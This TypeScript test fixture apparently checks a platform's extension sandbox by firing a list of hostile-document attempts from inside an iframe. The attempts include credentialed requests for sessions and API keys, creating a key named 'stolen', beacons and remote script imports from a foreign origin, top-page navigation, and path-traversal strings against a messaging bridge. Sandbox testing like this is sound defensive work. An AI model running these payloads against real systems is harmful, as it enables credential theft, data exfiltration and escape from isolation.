/** One way out of a frame: the body of an async function that returns whether it worked. `PLATFORM` and `FOREIGN` are origins. */
export interface Attempt {
  readonly name: string;
  readonly body: string;
  /** Whether the attempt works in a page without sandbox and policy, which proves that it is a real one. */
  readonly worksUnguarded: boolean;
}

const attempt = (name: string, body: string, worksUnguarded = true): Attempt => ({ name, body, worksUnguarded });
/** Loads an element, and returns whether it arrived. */
const load = (make: string): string => `return new Promise((resolve) => {
  const element = ${make};
  element.onload = () => resolve(true);
  element.onerror = () => resolve(false);
  document.body.append(element);
  setTimeout(() => resolve(false), 1000);
});`;
const element = (tag: string, properties: string): string =>
  load(`Object.assign(document.createElement('${tag}'), ${properties})`);
const socket = (url: string): string => `return new Promise((resolve) => {
  const one = new WebSocket(${url});
  one.onopen = () => resolve(true);
  one.onerror = one.onclose = () => resolve(false);
  setTimeout(() => resolve(false), 1000);
});`;

/** The attempts of a hostile document while it stays at its address. */
export const attempts: readonly Attempt[] = [
  attempt('read the page around', 'return parent.document.body.innerHTML.length > 0;'),
  attempt('read the top page', 'return top.document.title !== undefined;'),
  attempt('read where the page is', 'return typeof parent.location.href === "string";'),
  attempt('read the storage of the page around', 'return parent.localStorage.length >= 0;'),
  attempt('use localStorage', 'localStorage.setItem("a", "b"); return localStorage.getItem("a") === "b";'),
  attempt('use sessionStorage', 'sessionStorage.setItem("a", "b"); return true;'),
  attempt('set a cookie', 'document.cookie = "a=b"; return document.cookie.includes("a=b");'),
  attempt(
    'open a database',
    'return new Promise((r) => { const o = indexedDB.open("x"); o.onsuccess = () => r(true); o.onerror = () => r(false); });',
  ),
  attempt('open a cache', 'await caches.open("x"); return true;'),
  attempt(
    'start a worker',
    'return new Promise((r) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => r(true); w.onerror = () => r(false); setTimeout(() => r(false), 1000); });',
  ),
  attempt(
    'share a worker',
    'return new Promise((r) => { const w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = (e) => e.ports[0].postMessage(1)"]))); w.port.onmessage = () => r(true); w.onerror = () => r(false); setTimeout(() => r(false), 1000); });',
  ),
  attempt(
    'register a service worker',
    'await navigator.serviceWorker.register(FOREIGN + "/sw.js"); return true;',
    false,
  ),
  attempt(
    'ask the platform for the session',
    'const r = await fetch(PLATFORM + "/ui/session", { headers: { "x-symphony": "1" }, credentials: "include" }); return r.ok;',
    false,
  ),
  attempt(
    'ask the platform for keys',
    'const r = await fetch(PLATFORM + "/api/v1/keys", { headers: { "x-symphony": "1" }, credentials: "include" }); return r.ok;',
    false,
  ),
  attempt(
    'make a key',
    'await fetch(PLATFORM + "/api/v1/keys", { method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({ name: "stolen", kind: "client" }) }); return false;',
    false,
  ),
  attempt(
    'ask the platform by XHR',
    'return new Promise((r) => { const x = new XMLHttpRequest(); x.withCredentials = true; x.open("GET", PLATFORM + "/api/v1/keys"); x.onload = () => r(x.status === 200); x.onerror = () => r(false); x.send(); });',
    false,
  ),
  attempt('open the NATS tunnel', socket('PLATFORM.replace("http", "ws") + "/nats"'), false),
  attempt('open a foreign WebSocket', socket('FOREIGN.replace("http", "ws") + "/websocket"'), false),
  attempt('fetch from elsewhere', 'await fetch(FOREIGN + "/fetch"); return true;'),
  attempt('fetch without an answer', 'await fetch(FOREIGN + "/no-cors", { mode: "no-cors" }); return true;'),
  attempt('send a beacon', 'navigator.sendBeacon(FOREIGN + "/beacon", "data"); return false;', false),
  attempt(
    'open an event stream',
    'return new Promise((r) => { const e = new EventSource(FOREIGN + "/events"); e.onopen = () => r(true); e.onerror = () => r(false); });',
  ),
  attempt('load an image', element('img', '{ src: FOREIGN + "/image.svg" }')),
  attempt('load a style sheet', element('link', '{ rel: "stylesheet", href: FOREIGN + "/style.css" }')),
  attempt(
    'load an image by a style',
    'document.body.style.background = "url(" + FOREIGN + "/background.svg)"; await new Promise((r) => setTimeout(r, 200)); return false;',
    false,
  ),
  attempt('prefetch', element('link', '{ rel: "prefetch", href: FOREIGN + "/prefetch" }'), false),
  attempt(
    'preconnect',
    'document.head.append(Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: FOREIGN })); return false;',
    false,
  ),
  attempt('load a script', element('script', '{ src: FOREIGN + "/script.js" }')),
  attempt('import a module', 'await import(FOREIGN + "/module.js"); return true;'),
  attempt(
    'load a font',
    'const f = new FontFace("x", "url(" + FOREIGN + "/font.woff2)"); await f.load(); return true;',
    false,
  ),
  attempt('load a video', element('video', '{ src: FOREIGN + "/video.mp4" }'), false),
  attempt(
    'nest a foreign frame',
    'document.body.append(Object.assign(document.createElement("iframe"), { src: FOREIGN + "/frame" })); await new Promise((r) => setTimeout(r, 200)); return false;',
    false,
  ),
  attempt(
    'nest a page of the platform',
    'document.body.append(Object.assign(document.createElement("iframe"), { src: PLATFORM + "/" })); await new Promise((r) => setTimeout(r, 200)); return frames.length > 0 && (() => { try { return frames[0].document.title !== ""; } catch { return false; } })();',
    false,
  ),
  attempt(
    'nest an object',
    'document.body.append(Object.assign(document.createElement("object"), { data: FOREIGN + "/object" })); await new Promise((r) => setTimeout(r, 200)); return false;',
    false,
  ),
  attempt(
    'fetch from a nested srcdoc',
    'const f = document.createElement("iframe"); f.srcdoc = "<script>fetch(\'" + FOREIGN + "/srcdoc\')</scr" + "ipt>"; document.body.append(f); await new Promise((r) => setTimeout(r, 300)); return false;',
    false,
  ),
  attempt('open a window', 'return window.open(FOREIGN + "/popup") !== null;', false),
  attempt(
    'move the page around',
    'try { top.location = FOREIGN + "/top"; } catch { return false; } await new Promise((r) => setTimeout(r, 300)); return false;',
    false,
  ),
  attempt(
    'move the page around by a link',
    'const a = Object.assign(document.createElement("a"), { href: FOREIGN + "/link", target: "_top" }); document.body.append(a); a.click(); await new Promise((r) => setTimeout(r, 300)); return false;',
    false,
  ),
  attempt(
    'open a tab by a link',
    'const a = Object.assign(document.createElement("a"), { href: FOREIGN + "/tab", target: "_blank" }); document.body.append(a); a.click(); await new Promise((r) => setTimeout(r, 300)); return false;',
    false,
  ),
  attempt(
    'submit a form to the page around',
    'const f = Object.assign(document.createElement("form"), { action: FOREIGN + "/form", target: "_top", method: "post" }); document.body.append(f); f.submit(); await new Promise((r) => setTimeout(r, 300)); return false;',
    false,
  ),
  attempt('fill the screen', 'await document.documentElement.requestFullscreen(); return true;', false),
  attempt('read the clipboard', 'await navigator.clipboard.readText(); return true;', false),
  attempt('use the camera', 'await navigator.mediaDevices.getUserMedia({ video: true }); return true;', false),
  attempt(
    'learn the place',
    'return new Promise((r) => navigator.geolocation.getCurrentPosition(() => r(true), () => r(false)));',
    false,
  ),
];

/** The attempts that are not an escape for a document with its own origin, and so its own storage. */
export const storageAttempts: readonly string[] = [
  'use localStorage',
  'use sessionStorage',
  'open a database',
  'open a cache',
];

/** The attempts of a hostile document over the bridge. */
export const bridgeAttempts: readonly Attempt[] = [
  ...[
    'cirata.extensions.victim.read',
    'cirata.extensions.>',
    'cirata.extensions.*.read',
    'cirata.services.info',
    'cirata.services.storage.get',
    '$JS.API.INFO',
    '$SYS.REQ.USER.INFO',
    '_INBOX.x',
    'extensions.hostile.x',
  ].map((subject) =>
    attempt(`request ${subject}`, `await symphony.request('${subject}', '{}', { timeout: 500 }); return true;`),
  ),
  ...['cirata.symphony.registry', 'extensions.victim.changed', 'cirata.services.registry.register'].map((subject) =>
    attempt(`publish ${subject}`, `await symphony.publish('${subject}', 'x'); return true;`),
  ),
  attempt('read the bucket of another', 'await symphony.kv("victim_items").get("a"); return true;'),
  attempt('read a bucket of the platform', 'await symphony.kv("api_keys").get("a"); return true;'),
  attempt('read the prototype', 'await symphony.kv("__proto__").get("a"); return true;'),
  ...[
    '../victim/read',
    '/../victim/read',
    '..%2Fvictim%2Fread',
    '%2e%2e/victim/read',
    '%252e%252e/victim/read',
    '..\\\\victim\\\\read',
    '/api/v1/keys',
    '/api/v1/extensions/victim/read',
    '//victim/read',
    'https://example.invalid/x',
    '/api/v1/extensions/hostile/../victim/read',
    './../../keys',
  ].map((path) => attempt(`fetch ${path}`, `const { status } = await symphony.fetch('${path}'); return status < 400;`)),
  ...['//example.invalid', '/\\\\example.invalid', 'javascript:alert(1)', 'https://example.invalid'].map((path) =>
    attempt(
      `navigate to ${path}`,
      `symphony.navigate('${path}'); await new Promise((r) => setTimeout(r, 100)); return false;`,
    ),
  ),
];

/** A script that makes all attempts, and writes the successful ones into `window.escaped`. */
export const attemptScript = (list: readonly Attempt[], platform: string, foreign: string): string => `
const PLATFORM = ${JSON.stringify(platform)}, FOREIGN = ${JSON.stringify(foreign)};
const tries = { ${list.map(({ name, body }) => `${JSON.stringify(name)}: async () => { ${body} }`).join(',\n')} };
const late = () => new Promise((resolve) => setTimeout(() => resolve(false), 2000));
(async () => {
  const worked = [];
  // All at once, as a hostile document would. An attempt that does not end counts as refused.
  await Promise.all(Object.entries(tries).map(async ([name, go]) => {
    try { if (await Promise.race([go(), late()])) worked.push(name); } catch {}
  }));
  window.escaped = worked;
})();`;
